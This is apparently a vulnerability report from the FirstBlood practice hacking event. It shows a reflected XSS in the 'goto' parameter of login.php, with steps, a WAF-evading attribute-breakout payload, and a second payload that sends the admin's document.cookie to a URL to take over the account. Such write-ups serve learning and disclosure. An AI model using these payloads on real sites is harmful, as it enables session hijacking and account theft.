FirstBlood-#211Reflected xss on login.php leads to account takeover

On 2021-05-12, 0xblackbird reported:

Hello Zseano! I hope you're doing well today! I found another reflective cross-site scripting issue! This one works on every browser :)!

Steps to reproduce

  • Visit /login.php?goto=xyz"x
  • Press Ctrl+U or append view-source: infront of the url in your urlbar. This will allow you to view the source code of the webpage.
  • Next, scroll down to line ~104, you'll see that we were able to breakout of the attribute.
  • We can now go ahead and use a simple payload such as xyz%22%20autofocus%20onfocusin=%22confirm%601%60%22%3E (the "> is needed else it will still be a hidden field, later more on that). And the confirm box will popup! We successfully got xss:

  • Now this is just a simple xss, but if the administrator was logged in and an attacker sent him a special crafted link like the following one, his cookies will get stolen and the admin account will be gone. Payload: xyz%22%20autofocus%20onfocusin=%22window.location.href=%60http://localhost/?${document.cookie}%60%22%3E


I was able to takeover an (admin) account by stealing the cookies. This happend because user input was not handled safely and made the goto parameter vulnerable to cross-site scripting. Cross-site scripting allows us to execute our own (malicious) javascript.


I first went for some payloads that needed user interaction on Firefox but worked pretty fine on other browsers. I quickly realised that the value attribute was infront of the type attribute, this meant that if I closed of the tag that it won't be a hidden form input anymore. For the PoC I justwent for stealing the cookies since we are a bit quite limited with only having backticks. I'm pretty sure I can make the payload less noisy but still haven't found a way to do so! Thanks for the fun challenge!

Kind regards, 0xblackbird

P3 Medium

Endpoint: /login.php

Parameter: gotoPayload: xyz%22%20autofocus%20onfocusin=%22confirm`1`%22%3E

FirstBlood ID: 2
Vulnerability Type: Reflective XSS

The parameter "goto" is vulnerable to XSS onlogin.php. The web application makes use of a WAFbut this can be bypassed as it's only looking for certain HTML tags and event handlers. It is also vulnerable to open redirect but XSS is the intended bug.

Respect Earnt: 1500000
RESPECT ($RSP) is an experimentalcryptocurrency based on the Ethereum blockchain with the mission to show respect to those who deserve it. We are testing it outon our FirstBlood hackevent.